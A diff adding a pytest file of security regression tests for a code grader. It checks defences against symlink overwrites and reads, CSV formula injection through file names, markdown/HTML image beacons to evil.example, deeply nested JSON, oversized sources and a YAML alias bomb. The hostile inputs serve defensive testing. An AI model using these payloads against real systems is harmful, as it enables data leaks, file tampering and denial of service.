@@ -1,0 +1,169 @@
+"""The grader's own files and texts under attack: what a learner's folder, file name, message or
+spec can make the grader write, read or spend (issue 10, part 4). Each test is an attack that
+worked before it was fixed; it must fail if the defence is removed.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import resource
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+CORRECT = """\
+import numpy as np
+
+def softmax(x):
+    z = np.asarray(x, dtype=float)
+    e = np.exp(z - z.max())
+    return e / e.sum()
+"""
+
+
+def grader(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
+    env = {**os.environ, "NO_COLOR": "1"}
+    env.pop("GRADER_PROBLEMS", None)
+    return subprocess.run(
+        [sys.executable, "-m", "grader", *args],
+        cwd=cwd,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+
+
+def test_the_report_is_never_written_through_a_planted_link(
+    tmp_path: Path, problems_dir: Path
+) -> None:
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious\n")
+    folder = tmp_path / "repo"
+    folder.mkdir()
+    (folder / "solution.py").write_text(CORRECT)
+    (folder / ".solution.report.html.tmp").symlink_to(victim)  # the old fixed temporary name
+    (folder / "solution.report.html").symlink_to(victim)
+    done = grader("grade", "solution.py", "--problems", str(problems_dir), cwd=folder)
+    assert done.returncode == 0, done.stderr
+    assert victim.read_text() == "precious\n"
+    report = folder / "solution.report.html"
+    assert not report.is_symlink() and "<html" in report.read_text()
+    assert sorted(p.name for p in folder.iterdir()) == [
+        ".solution.report.html.tmp",
+        "solution.py",
+        "solution.report.html",
+    ]  # no temporary file left behind
+
+
+def test_batch_grades_no_symbolic_link_and_reads_nothing_through_one(
+    tmp_path: Path, problems_dir: Path
+) -> None:
+    secret = tmp_path / "shadow"
+    secret.write_text("root:SECRET-HASH:19000::::::\n")
+    reference = problems_dir.parent / "reference" / "softmax.py"
+    folder = tmp_path / "class"
+    (folder / "eve").mkdir(parents=True)
+    (folder / "eve" / "solution.py").symlink_to(reference)  # the reference, graded as hers
+    (folder / "mallory.py").symlink_to(secret)
+    (folder / "trent").symlink_to(tmp_path)  # a folder outside the class
+    (folder / "alice.py").write_text(CORRECT)
+    done = grader(
+        "batch", str(folder), "--problem", "softmax", "--problems", str(problems_dir),
+        "--out", str(tmp_path / "out.csv"), "--gradebook", str(tmp_path / "gb.sqlite"),
+        "--no-report", "--jobs", "1", "--sandbox", "off",
+        cwd=tmp_path,
+    )  # fmt: skip
+    assert done.returncode == 1, done.stderr  # someone could not be graded
+    rows = {r["learner"]: r for r in csv.DictReader((tmp_path / "out.csv").open())}
+    assert rows["alice"]["status"] == "accepted"
+    for learner in ("eve", "mallory", "trent"):
+        assert rows[learner]["status"] == "not_graded"
+        assert "symbolic link" in rows[learner]["note"]
+    assert b"SECRET-HASH" not in (tmp_path / "gb.sqlite").read_bytes()
+
+
+def test_a_file_name_cannot_become_a_spreadsheet_formula(
+    tmp_path: Path, problems_dir: Path
+) -> None:
+    folder = tmp_path / "class"
+    folder.mkdir()
+    (folder / '=HYPERLINK("http:evil",1).py').write_text(CORRECT)
+    (folder / "+sum.py").write_text("def softmax(x):\n    return x\n")
+    done = grader(
+        "batch", str(folder), "--problem", "softmax", "--problems", str(problems_dir),
+        "--out", str(tmp_path / "out.csv"), "--gradebook", str(tmp_path / "gb.sqlite"),
+        "--no-report", "--jobs", "1", "--sandbox", "off",
+        cwd=tmp_path,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    cells = [c for row in csv.reader((tmp_path / "out.csv").open()) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert '\'=HYPERLINK("http:evil",1)' in cells and "'+sum" in cells
+
+
+def test_markdown_shows_a_learners_text_and_never_renders_it(
+    tmp_path: Path, problems_dir: Path
+) -> None:
+    markdown_it = pytest.importorskip("markdown_it")
+    solution = tmp_path / "solution.py"
+    solution.write_text(
+        "def softmax(x):\n"
+        "    raise ValueError('<img src=http://evil.example/?leak=1> "
+        "![x](https://evil.example/a.png) [click](https://evil.example) **bold** | cell')\n"
+    )
+    done = grader(
+        "grade", str(solution), "--problems", str(problems_dir), "--format", "md", "--no-report",
+        cwd=tmp_path,
+    )  # fmt: skip
+    assert done.returncode == 1, done.stderr
+    html = markdown_it.MarkdownIt("commonmark").enable("table").render(done.stdout)
+    assert "<img" not in html and "<a " not in html and "<strong>bold" not in html
+    assert "&lt;img src=http" in html  # the text is there, as text
+
+
+def test_a_deeply_nested_notebook_is_a_verdict(tmp_path: Path, problems_dir: Path) -> None:
+    notebook = tmp_path / "solution.ipynb"
+    notebook.write_text('{"cells": ' + "[" * 300_000 + "]" * 300_000 + "}")
+    done = grader(
+        "grade", str(notebook), "--problem", "softmax", "--problems", str(problems_dir),
+        "--format", "json", "--no-report",
+        cwd=tmp_path,
+    )  # fmt: skip
+    assert done.returncode == 1, done.stderr
+    error = json.loads(done.stdout)["error"]
+    assert error["kind"] == "compile_error" and "nested" in error["message"]
+
+
+def test_an_oversized_source_is_a_verdict_and_costs_the_grader_little(
+    tmp_path: Path, problems_dir: Path
+) -> None:
+    solution = tmp_path / "solution.py"
+    solution.write_text(CORRECT + "x = [" + "1, " * 2_000_000 + "]\n")  # about 6 MB
+    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
+    done = grader(
+        "grade", str(solution), "--problem", "softmax", "--problems", str(problems_dir),
+        "--format", "json", "--no-report", "--sandbox", "off",
+        cwd=tmp_path,
+    )  # fmt: skip
+    assert done.returncode == 1, done.stderr
+    assert "larger than 1 MiB" in json.loads(done.stdout)["error"]["message"]
+    peak_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
+    assert peak_kib < max(before, 400 << 10)  # the grader never held the parsed file
+
+
+def test_a_yaml_alias_bomb_is_a_spec_error(tmp_path: Path) -> None:
+    problems = tmp_path / "problems"
+    problems.mkdir()
+    levels = ['a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]']
+    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
+        levels.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 10) + "]")
+    (problems / "bomb.yaml").write_text("\n".join(levels) + "\n")
+    (tmp_path / "s.py").write_text("def f(x):\n    return x\n")
+    done = grader("grade", "s.py", "--problem", "bomb", "--problems", str(problems), cwd=tmp_path)
+    assert done.returncode == 2
+    assert "bomb.yaml" in done.stderr and "aliases" in done.stderr
